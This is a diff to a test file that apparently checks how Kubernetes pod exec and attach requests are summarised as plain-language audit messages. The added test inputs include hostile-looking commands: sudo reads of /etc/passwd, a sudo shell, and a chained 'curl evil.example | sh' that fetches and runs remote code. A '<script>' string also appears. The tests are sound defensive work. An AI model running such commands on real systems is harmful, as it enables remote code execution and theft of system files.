@@ -45,6 +45,13 @@ describe('one deed', () => {
       'opened a shell in pod web-0 of payments',
     ],
     [stream('exec', '?command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=cat&command=/etc/passwd'), 'ran cat in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=bash'), 'opened a shell in pod web-0 of payments'],
+    [stream('exec', '?command=sudo&command=-l'), 'ran sudo in pod web-0 of payments'],
+    [
+      stream('exec', '?command=sh&command=-c&command=true%3B+curl+evil.example+%7C+sh'),
+      'ran commands in pod web-0 of payments',
+    ],
     [stream('exec', '?command=%3Cscript%3E'), 'ran a command in pod web-0 of payments'],
     [stream('exec'), 'ran a command in pod web-0 of payments'],
     [stream('attach'), 'attached to pod web-0 of payments'],
